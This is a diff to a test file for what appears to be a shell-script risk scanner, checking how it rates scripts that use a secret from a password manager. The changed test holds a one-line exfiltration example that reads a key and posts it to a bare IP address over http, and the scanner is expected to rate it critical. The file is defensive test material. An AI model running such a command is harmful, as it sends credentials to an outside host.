@@ -128,9 +128,10 @@ test('one item of a password manager that signs a request in is for a reader to 
   const login =
     'KEY=$(op read "op://Team/farrowmere/key")\ncurl -X POST -H "Authorization: Bearer $KEY" "https://api.farrowmere.io/v1"';
   expect(worst(running('a.sh', login), 'EX-01')).toBe('medium');
-  expect(
-    worst(running('a.sh', login.replace('-H "Authorization: Bearer $KEY"', '-d "k=$KEY"')), 'EX-01'),
-  ).toBe('critical');
+  const sent = login
+    .replace('-H "Authorization: Bearer $KEY"', '-d "k=$KEY"')
+    .replace('https://api.farrowmere.io/v1', 'http://245.61.12.9/in');
+  expect(worst(running('a.sh', sent), 'EX-01')).toBe('critical');
 });
 
 test('a value that a command shows to the person, beside a copy of another file, is for a reader to judge', () => {
